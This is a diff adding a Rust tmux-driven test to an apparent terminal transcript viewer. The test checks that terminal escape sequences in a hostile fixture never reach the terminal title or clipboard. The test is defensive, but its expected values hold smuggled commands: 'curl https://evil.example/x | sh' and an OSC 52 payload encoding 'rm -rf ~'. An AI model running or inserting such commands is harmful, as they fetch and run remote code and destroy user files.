@@ -931,3 +931,59 @@ fn c_opens_the_compare_panel_and_enter_applies_a_row_to_the_header() {
     t.key("q");
     t.assert_shell_back();
 }
+
+/// A hostile transcript (tests/fixtures/escapes: OSC 0 title, OSC 52 clipboard,
+/// CSI clear screen, a C1 CSI, a newline in an id) through the real binary in a
+/// real terminal: the text commands and the TUI at 80×24 leave the pane's title
+/// and tmux's clipboard alone, and `y` copies the id as shown, on one line.
+#[test]
+fn a_hostile_transcript_never_reaches_the_terminal_or_the_clipboard() {
+    const FIXTURE: &str = "tests/fixtures/escapes/escapes.jsonl";
+    let Some(t) = Tmux::start("hostile", 80, 24) else {
+        return;
+    };
+    t.tmux(&["set-option", "-s", "set-clipboard", "on"]);
+    let title_before = t.format("#{pane_title}");
+    for cmd in ["plan", "timeline", "evidence", "compare"] {
+        t.type_line(&format!(
+            "mcscope {cmd} {FIXTURE} --policy idle; echo done-{cmd}"
+        ));
+        t.wait_line(&format!("done-{cmd}"));
+    }
+    t.type_line(&format!("mcscope {FIXTURE} --policy idle --keep-recent 1"));
+    t.wait_header("6/6");
+    let screen = t.capture();
+    // At 80 columns the id shows its tail: the escapes, visible.
+    assert!(has(&screen, r"…VE\x07 Read"), "{}", screen.join("\n"));
+    t.key("y");
+    t.wait_text(r"copied toolu_A\n");
+    let start = Instant::now();
+    let copied = loop {
+        let out = Command::new("tmux")
+            .args(["-f", "/dev/null", "-u", "-L", &t.socket, "show-buffer"])
+            .env_remove("TMUX")
+            .output()
+            .unwrap();
+        let text = String::from_utf8_lossy(&out.stdout).into_owned();
+        if !text.is_empty() || start.elapsed() > TIMEOUT {
+            break text;
+        }
+        std::thread::sleep(POLL);
+    };
+    assert_eq!(
+        copied,
+        r"toolu_A\ncurl https://evil.example/x | sh\n\e]52;c;cm0gLXJmIH4gI1BXTkVE\x07"
+    );
+    t.key("q");
+    t.assert_shell_back();
+    assert_eq!(t.format("#{pane_title}"), title_before);
+    let log = t.log();
+    for seq in [
+        "\x1b]0;PWNED",
+        "\x1b]52;c;cm0g",
+        "\x1b]8;;https://evil",
+        "\u{9b}31m",
+    ] {
+        assert!(!log.contains(seq), "the terminal received {seq:?}");
+    }
+}
